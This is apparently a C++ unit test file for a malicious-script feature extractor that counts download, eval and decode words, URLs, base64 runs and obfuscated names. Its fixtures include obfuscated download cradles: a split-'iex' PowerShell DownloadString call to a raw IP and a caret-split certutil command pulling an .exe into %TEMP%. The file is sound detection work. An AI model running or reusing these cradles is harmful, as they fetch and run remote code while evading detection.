#include <cmath>

#include "measured.h"

namespace sekisho::engines::file_features::test {
namespace {

using enum Feature;

float log1(double n) { return static_cast<float>(std::log1p(n)); }

TEST_CASE("a text that runs nothing is not measured, nor is what nobody measures") {
  for (const auto* text : {"", "Dear customer, the invoice is attached.\n", "{\"a\": [1, 2]}",
                           "\x89PNG\r\n\x1a\n", "<!DOCTYPE html><script>eval(1)</script>"}) {
    const auto features = measured(text);
    CHECK(features.kind == Kind::none);
    for (const auto value : features.values) CHECK(std::isnan(value));
  }
}

TEST_CASE("words are counted by purpose, whatever their case and however they are split") {
  const auto features = measured(
      "i`E`x (new-object nEt.WebClient).DownloadString('http://192.0.2.1/a')\r\n"
      "c^e^r^t^util -urlcache -f http://a.example/ %TEMP%\\a.exe\r\n");
  CHECK(features.kind == Kind::script);
  CHECK(features[word_evaluate] == log1(1));
  CHECK(features[word_decode] == log1(1));
  CHECK(features[word_download] == log1(3));
  CHECK(features[word_place] == log1(1));
  CHECK(features[word_persist] == 0);
  CHECK(features[text_urls] == log1(2));
  CHECK(features[text_address_urls] == log1(1));
  CHECK(features[text_split_words] > 0);
}

TEST_CASE("UTF-16 is read as the text that it is") {
  const auto wide = measured(seed("wide_script"));
  CHECK(wide.kind == Kind::script);
  CHECK(wide[word_evaluate] == log1(1));
  CHECK(wide[word_download] == log1(2));
  CHECK(wide[text_bytes] == log1(66));
}

TEST_CASE("literals end with their quote or their line, and joins are counted") {
  const auto features = measured(
      "#!/bin/x\nvar a = \"po\" + \"wer\" & 'she' + x + 'll'; // it's a "
      "comment\neval(\"\\x41\\x42\")\n");
  CHECK(features[text_longest_literal] == log1(8));
  const auto bytes = std::exp(features[text_bytes]) - 1;
  CHECK(features[text_joins] == Approx(1024 * 2 / bytes).epsilon(0.01));
  CHECK(features[text_escapes] == Approx(1024 * 2 / bytes).epsilon(0.01));
  CHECK(features[text_short_literals] == Approx(1024 * 4 / bytes).epsilon(0.01));
}

TEST_CASE("runs, lines and comments are measured") {
  const auto features =
      measured("#!/bin/sh\n# base64\n" + std::string(300, 'A') + "\neval 1,2,3,4,5\n");
  CHECK(features[text_longest_base64] == log1(300));
  CHECK(features[text_longest_line] == log1(300));
  CHECK(features[text_longest_numbers] == log1(10));  // with the blank in front
  CHECK(features[text_comments] == Approx(0.5));
}

TEST_CASE("names that nobody chose are told from those that somebody did") {
  const auto odd = measured("eval(_0x3fa2b1c); lIl1I0O1l = qwrtzpsd; xKcDvBnMq(aBcDeFgH)");
  const auto plain = measured("eval(total); customerName = readOrder; printReport(monthlyValues)");
  CHECK(odd[text_odd_words] > 0.3F);
  CHECK(plain[text_odd_words] == 0);
  CHECK(odd[text_mixed_case] > 0);
  CHECK(plain[text_mixed_case] == 0);
}

}  // namespace
}  // namespace sekisho::engines::file_features::test
